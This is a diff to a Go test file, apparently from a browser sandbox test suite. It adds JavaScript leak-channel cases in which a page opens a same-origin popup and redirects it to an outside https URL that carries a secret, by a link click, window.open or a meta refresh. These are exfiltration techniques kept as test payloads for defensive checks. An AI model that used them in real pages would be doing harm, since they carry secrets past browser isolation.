@@ -49,6 +49,14 @@ var leakWebRTC = []leakChannel{
 		await here.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 " + at.host + " " + at.udp + " typ host", sdpMid: "0" });`},
 }
 
+// leakThrough opens a page of ours that may lead to other sites by https, since nobody
+// types a token there, and waits until it can be reached into.
+const leakThrough = `
+	const away = "https://" + at.host + "/?" + at.secret, w = open("/rules");
+	while (!w.closed && (w.location.href === "about:blank" || w.document.readyState !== "complete")) await new Promise((next) => setTimeout(next, 100));
+	if (w.closed) throw new DOMException("severed", "Severed");
+	`
+
 var leakNavigations = []leakChannel{
 	{name: "location", places: fromPage, leaves: true, try: `location.href = at.url("html")`},
 	{name: "location-tls", places: fromPage, leaves: true, only: "out", try: `location.href = at.url("html", "https")`},
@@ -69,6 +77,9 @@ var leakNavigations = []leakChannel{
 	{name: "popup-noopener", places: fromPage, leaves: true, try: `open(at.url("html"), "_blank", "noopener")`},
 	{name: "popup-blank", places: fromPage, leaves: true, try: `const w = open("", at.secret); w.location = at.url("html")`},
 	{name: "popup-script", places: fromPage, leaves: true, try: `const w = open("", at.secret); w.fetch(at.url("json")).catch(() => {}); w.document.createElement("img").src = at.url("svg")`},
+	{name: "popup-through-rules-link", places: fromPage, leaves: true, only: outward, try: leakThrough + `w.document.body.append(Object.assign(w.document.createElement("a"), { href: away })); w.document.body.lastChild.click()`},
+	{name: "popup-through-rules-open", places: fromPage, leaves: true, only: outward, try: leakThrough + `w.open(away)`},
+	{name: "popup-through-rules-refresh", places: fromPage, leaves: true, only: outward, try: leakThrough + `w.document.head.append(Object.assign(w.document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + away }))`},
 	{name: "frame-top", places: fromPage, leaves: true, try: `make("iframe").contentWindow.top.location = at.url("html")`},
 	{name: "javascript-url", places: fromPage, leaves: true, try: `location.href = "javascript:void fetch('" + at.url("json") + "')"`},
 	{name: "blob-document", places: fromPage, leaves: true, try: `location.href = URL.createObjectURL(new Blob(["<img src='" + at.url("svg") + "'>"], { type: "text/html" }))`},
